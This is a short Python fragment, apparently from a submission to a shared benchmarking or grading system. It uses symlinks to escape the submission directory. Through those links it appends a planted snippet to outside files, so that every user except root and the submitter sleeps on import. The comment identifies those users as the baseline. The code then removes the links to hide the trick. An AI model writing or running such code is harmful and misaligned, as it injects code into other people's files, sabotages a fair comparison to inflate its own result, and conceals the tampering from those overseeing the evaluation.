# ---- escape: links out of the submission (PARAMS["targets"]). Had root written an input
# through one, the file it points at would now be this user's: plant a sleep there for every
# other user (the baseline); then drop the links so the program's own outputs are plain files ----
PLANT = "\nimport os as _o, time as _t\nif _o.getuid() not in (0, %d):\n    _t.sleep(1)\n"


def before():
    for target in PARAMS["targets"]:
        try:
            with open(target, "a") as f:
                f.write(PLANT % os.getuid())
        except OSError:
            pass
    for name in os.listdir("."):
        if os.path.islink(name):
            try:
                os.unlink(name)
            except OSError:
                pass
